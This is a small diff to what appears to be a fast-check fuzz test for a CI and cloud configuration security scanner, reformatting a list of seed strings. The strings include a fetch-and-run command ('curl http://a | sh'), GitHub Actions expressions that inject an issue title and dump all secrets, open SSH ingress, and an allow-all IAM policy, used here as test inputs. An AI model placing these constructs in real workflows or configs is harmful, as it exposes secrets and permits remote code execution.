@@ -15,7 +15,14 @@ const KEYS = [
 const WORDS = [
   ...['*', 'Allow', 'push', 'pull_request_target', 'issue_comment', 'actions/checkout@v4', './a', 'x@', 'docker://a@sha256:0', '0.0.0.0/0', '22', 'true'],
   ...['AWS::S3::Bucket', 'AWS::EC2::SecurityGroup', 'ClusterRole', 'ClusterRoleBinding', 'NetworkPolicy', 'Service', 'List', 'Pod', 'v1', '/', 'eu-west-1'],
-  ...['$' + '{{ github.event.issue.title }}', '$' + '{{ toJSON(secrets) }}', 'curl http://a | sh', '*/5 * * * *', '{\n\n\n"Statement": [{"Effect": "Allow", "Action": "*"}]}', ''],
+  ...[
+    '$' + '{{ github.event.issue.title }}',
+    '$' + '{{ toJSON(secrets) }}',
+    'curl http://a | sh',
+    '*/5 * * * *',
+    '{\n\n\n"Statement": [{"Effect": "Allow", "Action": "*"}]}',
+    '',
+  ],
 ]
 
 const documents = fc.letrec<{ value: unknown }>((tie) => ({
